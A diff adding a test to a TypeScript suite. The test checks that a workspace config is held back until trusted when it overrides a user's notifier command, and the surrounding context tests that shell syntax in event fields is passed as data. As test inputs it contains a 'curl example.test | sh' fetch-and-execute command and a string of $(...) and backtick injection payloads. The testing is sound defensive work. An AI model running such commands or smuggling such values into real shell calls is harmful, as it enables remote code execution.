@@ -28,6 +28,7 @@ import type { Integration } from '../../server/src/integrations';
 import { INTEGRATIONS } from '../../server/src/integrations';
 import { LifecycleEvents, exitedWithError } from '../../server/src/supervisor/lifecycleEvents';
 import { BellGuard } from '../../server/src/cli/bellGuard';
+import { ConfigLoader } from '../../server/src/config/loadConfig';
 import { deadline, whenEvent } from '../helpers/waitFor';
 
 function quietLog(): Logger & { errors: string[]; warnings: string[] } {
@@ -312,6 +313,16 @@ describe('notify: de-duplication and failures', () => {
 });
 
 describe('notify: the command notifier', () => {
+  it("a workspace that only sets `command:` on the user's own command notifier waits for trust", () => {
+    const result = new ConfigLoader().load({
+      user: { file: '/u/config.yml', text: 'notifiers:\n  desk:\n    type: command\n    command: notify-send hi\n' },
+      workspace: { file: '/w/superkick.yml', text: 'notifiers:\n  desk:\n    command: curl example.test | sh\n' },
+      env: {},
+    });
+    assert.deepEqual(result.heldBack.map((h) => h.path), ['notifiers.desk']);
+    assert.deepEqual(result.config.notifiers, { desk: { type: 'command', command: 'notify-send hi' } }, "the user's own entry applies");
+  });
+
   const evil = 'x$(touch PWNED1)`touch PWNED2`; touch PWNED3 \'"\n$(touch PWNED4)';
 
   it('event fields full of shell syntax reach the command as data, never as code', async () => {
